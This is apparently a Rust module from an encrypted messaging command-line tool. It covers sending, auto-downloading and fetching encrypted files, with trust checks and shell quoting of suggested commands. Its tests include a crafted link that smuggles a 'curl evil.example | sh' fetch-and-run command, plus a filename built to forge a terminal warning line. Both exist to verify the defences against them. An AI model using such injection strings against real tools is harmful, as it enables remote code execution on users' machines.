//! Encrypted files: `hush send-file`, saving the files that arrive (`hush recv` and the
//! agent), and `hush fetch`.
//!
//! A file that arrives is downloaded, decrypted and checked as it streams into the
//! downloads directory (`--downloads`, default `HOME/downloads`) when its sender announced a
//! size under the automatic limit (`--max-download`); anything larger, or a failed download,
//! is shown with the `hush fetch` command that gets it. Progress bars (rate, time left) go
//! to standard error on a terminal, and nowhere otherwise.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use hush_files::{Link, SharedFile};
use hush_store::SqliteStore;
use hush_xmpp::{Delivery, Downloaded, FileSent, Http, Hush, Progress};
use serde_json::{json, Value};

use super::connect;
use super::send::{partial_of, To};
use crate::agent::client::Agent;
use crate::error::{CliError, Result};
use crate::home::Home;
use crate::output::{Printer, Shown};
use crate::terminal::printable;

/// Files larger than this (as their sender announced) are not downloaded by themselves.
pub(crate) const DEFAULT_MAX_DOWNLOAD: u64 = 100 << 20;

/// Where received files go, and how large they may be to go there by themselves.
#[derive(Clone, Debug)]
pub(crate) struct Downloads {
    /// The directory.
    pub(crate) dir: PathBuf,
    /// The automatic download limit, in bytes.
    pub(crate) max: u64,
    /// Whether the user chose either (an agent does not take them).
    pub(crate) given: bool,
}

impl Downloads {
    /// `dir` (default: `downloads` in the home) and `max` (default
    /// [`DEFAULT_MAX_DOWNLOAD`]).
    pub(crate) fn new(home: &Home, dir: Option<PathBuf>, max: Option<u64>) -> Self {
        Self {
            given: dir.is_some() || max.is_some(),
            dir: dir.unwrap_or_else(|| home.dir().join("downloads")),
            max: max.unwrap_or(DEFAULT_MAX_DOWNLOAD),
        }
    }
}

/// What became of a file that arrived.
#[derive(Debug, Clone)]
pub(crate) enum Saved {
    /// Downloaded, decrypted and checked.
    Saved(Downloaded),
    /// Not downloaded: why (too large, or the download failed), said to the user.
    NotSaved(String),
}

/// A byte count as people read it: `512 B`, `3.4 KiB`, `1.2 GiB`.
pub(crate) fn human_size(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["B", "KiB", "MiB", "GiB", "TiB"];
    let mut value = bytes as f64;
    let mut unit = 0;
    while value >= 1024.0 && unit + 1 < UNITS.len() {
        value /= 1024.0;
        unit += 1;
    }
    if unit == 0 {
        format!("{bytes} B")
    } else {
        format!("{value:.1} {}", UNITS[unit])
    }
}

/// A progress bar on standard error when it is a terminal (indicatif draws nothing
/// otherwise).
pub(crate) struct Bar {
    bar: indicatif::ProgressBar,
}

impl Bar {
    /// A bar for `what` (a file name, already printable).
    pub(crate) fn new(what: &str) -> Arc<Self> {
        // Hidden until the transfer starts: before, its size is not known (disco, the slot).
        let bar =
            indicatif::ProgressBar::with_draw_target(None, indicatif::ProgressDrawTarget::hidden());
        let style = indicatif::ProgressStyle::with_template(
            "{msg} [{bar:30}] {bytes}/{total_bytes} {binary_bytes_per_sec} ETA {eta}",
        )
        .unwrap_or_else(|_| indicatif::ProgressStyle::default_bar())
        .progress_chars("=> ");
        bar.set_style(style);
        bar.set_message(what.to_owned());
        bar.enable_steady_tick(Duration::from_millis(250));
        Arc::new(Self { bar })
    }

    /// Takes the bar off the screen.
    pub(crate) fn done(&self) {
        self.bar.finish_and_clear();
    }
}

impl Progress for Bar {
    fn start(&self, total: Option<u64>) {
        if let Some(total) = total {
            self.bar.set_length(total);
        }
        // Drawn on standard error when it is a terminal; indicatif draws nothing otherwise.
        self.bar
            .set_draw_target(indicatif::ProgressDrawTarget::stderr());
    }

    fn advance(&self, bytes: u64) {
        self.bar.inc(bytes);
    }

    fn at(&self, bytes: u64) {
        self.bar.set_position(bytes);
    }
}

/// The text a message sent with its file, when it is more than the file's link (which
/// holds the key and is shown as the file instead): a caption to show beside the file.
pub(crate) fn caption(body: &str) -> Option<&str> {
    (Link::parse(body).is_err() && !body.trim().is_empty()).then_some(body)
}

/// The name a shared file goes by: its sender's, else the URL's last part.
fn display_name(file: &SharedFile) -> String {
    let name = file
        .name
        .as_deref()
        .or_else(|| file.link.file_name())
        .unwrap_or("file");
    printable(name)
}

/// Whether the file a message shares may be downloaded by itself.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Fetch {
    /// Yes (the size limit is checked by [`save`]).
    Now,
    /// No: why, said to the user (it is shown with the `hush fetch` command instead).
    Not(String),
    /// The message shares no file.
    NoFile,
}

/// A file is fetched by itself only from someone the user chose to hear from: a contact (or
/// our own other device, or a room member) whose key is trusted. Anyone else's link would
/// make Hush contact a server of their choosing (telling it when and from where) and fill the
/// disk: it is shown, and `hush fetch` gets it.
pub(crate) fn may_fetch(store: &impl hush_store::Store, me: &str, d: &Delivery) -> Fetch {
    if d.file.is_none() {
        return Fetch::NoFile;
    }
    match d.trust {
        Some(hush_store::Trust::Verified | hush_store::Trust::Blind) => {}
        _ => {
            return Fetch::Not(
                "the sender's key is not trusted, so it was not downloaded by itself".to_owned(),
            )
        }
    }
    let conversation = if d.from.eq_ignore_ascii_case(me) {
        d.arrival.to.as_str()
    } else {
        d.from.as_str()
    };
    let chosen = d.arrival.room.is_some()
        || d.from.eq_ignore_ascii_case(me)
        || store.conversation(conversation).is_ok_and(|c| c.contact);
    if chosen {
        Fetch::Now
    } else {
        Fetch::Not(format!(
            "{} is not one of your contacts, so it was not downloaded by itself",
            printable(&d.from)
        ))
    }
}

/// Downloads what `d` shares when [`may_fetch`] allows and it is under the limit; what
/// became of it (`None` when it shares nothing).
pub(crate) async fn save_if_allowed(
    store: &impl hush_store::Store,
    me: &str,
    d: &Delivery,
    downloads: &Downloads,
) -> Option<Saved> {
    match may_fetch(store, me, d) {
        Fetch::Now => save(d, downloads).await,
        Fetch::Not(why) => Some(Saved::NotSaved(why)),
        Fetch::NoFile => None,
    }
}

/// Downloads the file `d` shares, if any, when it is under the automatic limit.
pub(crate) async fn save(d: &Delivery, downloads: &Downloads) -> Option<Saved> {
    let file = d.file.as_ref()?;
    if let Some(size) = file.size.filter(|size| *size > downloads.max) {
        return Some(Saved::NotSaved(format!(
            "{} is over the automatic download limit of {}",
            human_size(size),
            human_size(downloads.max)
        )));
    }
    Some(match fetch(file, &downloads.dir, downloads.max).await {
        Ok(done) => Saved::Saved(done),
        Err(e) => Saved::NotSaved(e.to_string()),
    })
}

/// Downloads `file` into `dir` (at most `max` bytes) with a progress bar.
async fn fetch(file: &SharedFile, dir: &Path, max: u64) -> Result<Downloaded> {
    let bar = Bar::new(&display_name(file));
    let result = match Http::new() {
        Ok(http) => http.download(file, dir, max, bar.as_ref()).await,
        Err(e) => Err(e),
    };
    bar.done();
    Ok(result.map_err(hush_xmpp::XmppError::from)?)
}

/// The `file` object of a delivery's JSON, and the line its text shows instead of the body
/// (which is the link, key included).
pub(crate) fn describe(file: &SharedFile, saved: Option<&Saved>) -> (Value, String) {
    let name = display_name(file);
    let size = file.size.map(human_size);
    let sha256 = match saved {
        Some(Saved::Saved(done)) => Some(hex::encode(done.sha256)),
        _ => file.sha256.map(hex::encode),
    };
    let (path, error) = match saved {
        Some(Saved::Saved(done)) => (Some(done.path.display().to_string()), None),
        Some(Saved::NotSaved(why)) => (None, Some(why.clone())),
        None => (None, None),
    };
    let size_bytes = match saved {
        Some(Saved::Saved(done)) => Some(done.size),
        _ => file.size,
    };
    let json = json!({"path": path, "name": file.name, "size": size_bytes,
                      "media_type": file.media_type, "sha256": sha256,
                      "url": file.link.url, "link": file.link.to_aesgcm().as_str(),
                      "error": error});
    let about = match &size {
        Some(size) => format!("file {name} ({size})"),
        None => format!("file {name}"),
    };
    let line = match saved {
        Some(Saved::Saved(done)) => {
            format!(
                "{about} saved to {}",
                printable(&done.path.display().to_string())
            )
        }
        Some(Saved::NotSaved(why)) => format!(
            "{about}, not downloaded: {}; to get it: hush fetch {}",
            printable(why),
            shell_quoted(&printable(file.link.to_aesgcm().as_str()))
        ),
        None => format!(
            "{about}; to get it: hush fetch {}",
            shell_quoted(&printable(file.link.to_aesgcm().as_str()))
        ),
    };
    (json, line)
}

/// `text` as one word for a POSIX shell: in single quotes, each `'` written `'\''`, so a
/// suggested command pasted into a shell runs nothing else, whatever a sender put in a link.
pub(crate) fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// `hush send-file`: through the agent when one runs, else on a connection of our own.
pub(super) async fn send_file(home: &Home, to: To<'_>, path: &Path, out: Printer) -> Result<()> {
    // The agent reads the file itself: give it a path that means the same there.
    let path = std::fs::canonicalize(path).map_err(|source| CliError::File {
        path: path.to_owned(),
        source,
    })?;
    if let Some(agent) = Agent::find(home).await? {
        let mut agent = agent.printing_for(out);
        crate::output::note(&format!(
            "the agent is encrypting and uploading {}",
            printable(&path.display().to_string())
        ));
        let params = json!({"to": to.jid().to_string(), "path": path.display().to_string(),
                            "muc": matches!(to, To::Room(_))});
        let sent = agent.call("send_file", params).await?;
        out.show(&sent)?;
        return partial_of(&sent);
    }
    let (mut hush, _config) = connect(home).await?;
    let sent = send_file_report(&mut hush, to, &path).await?;
    hush.close().await?;
    out.show(&sent)?;
    partial_of(&sent)
}

/// Shares the file at `path` on a connection and says what it did.
pub(crate) async fn send_file_report(
    hush: &mut Hush<SqliteStore>,
    to: To<'_>,
    path: &Path,
) -> Result<Shown> {
    let name = path
        .file_name()
        .map(|n| printable(&n.to_string_lossy()))
        .unwrap_or_default();
    let bar = Bar::new(&name);
    let sent = hush.send_file(to.jid(), path, bar.clone()).await;
    bar.done();
    let FileSent { report, file } = sent?;
    let mut shown = super::send::shown_report(to, report);
    let (mut about, _) = describe(&file, None);
    if let Value::Object(o) = &mut about {
        // What was sent: the sender has it already, and the link stays out of the output.
        o.remove("link");
        o.insert("path".into(), json!(path.display().to_string()));
    }
    if let Value::Object(o) = &mut shown.json {
        o.insert("file".into(), about);
    }
    shown.text.push(format!(
        "shared {name} ({}) through {}",
        human_size(file.size.unwrap_or(0)),
        printable(&file.link.url)
    ));
    Ok(shown)
}

/// `hush fetch LINK`: downloads an `aesgcm://` link (from `hush history`, or a message
/// whose file was not downloaded) into the downloads directory; no account is needed.
pub(super) async fn fetch_link(
    link: &str,
    downloads: &Downloads,
    name: Option<&str>,
    out: Printer,
) -> Result<()> {
    let link = Link::parse(link).map_err(CliError::BadLink)?;
    let mut file = SharedFile::from_link(link);
    file.name = name.map(str::to_owned);
    let done = fetch(&file, &downloads.dir, downloads.max).await?;
    let saved = Saved::Saved(done);
    let (mut json, line) = describe(&file, Some(&saved));
    if let Value::Object(o) = &mut json {
        o.remove("link");
    }
    out.show(&Shown {
        json: json!({"file": json}),
        text: vec![line],
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_read_as_people_say_them() {
        assert_eq!(human_size(512), "512 B");
        assert_eq!(human_size(3 * 1024 + 400), "3.4 KiB");
        assert_eq!(human_size(5 << 30), "5.0 GiB");
    }

    #[test]
    fn a_file_line_never_shows_a_forged_line_or_hides_its_name() {
        let link = Link::parse(&format!("aesgcm://h/p/x.bin#{}", "00".repeat(44))).unwrap();
        let mut file = SharedFile::from_link(link);
        file.name = Some("evil\n!! WARNING: fake.txt".into());
        file.size = Some(10);
        let (json, line) = describe(&file, Some(&Saved::NotSaved("no".into())));
        // A line break in a name becomes a continuation row (`printable`), never a row of
        // ours.
        assert!(
            line.lines().skip(1).all(|row| row.starts_with("    | ")),
            "{line}"
        );
        assert!(line.starts_with("file evil"), "{line}");
        assert_eq!(
            json["name"], "evil\n!! WARNING: fake.txt",
            "JSON keeps it exact"
        );
        assert!(line.contains("hush fetch 'aesgcm://h/p/x.bin#"), "{line}");
    }

    /// A link made to break out of the quotes of the suggested command stays one word.
    #[test]
    fn the_suggested_command_cannot_run_anything_else() {
        let link = Link::parse(&format!(
            "aesgcm://x/';{{curl,-s,evil.example}}|sh;'#{}",
            "00".repeat(44)
        ))
        .unwrap();
        let file = SharedFile::from_link(link);
        let (_, line) = describe(&file, Some(&Saved::NotSaved("too large".into())));
        let command = line.split("to get it: ").nth(1).unwrap();
        assert_eq!(
            command,
            format!(
                "hush fetch 'aesgcm://x/'\\'';{{curl,-s,evil.example}}|sh;'\\''#{}'",
                "00".repeat(44)
            )
        );
    }
}
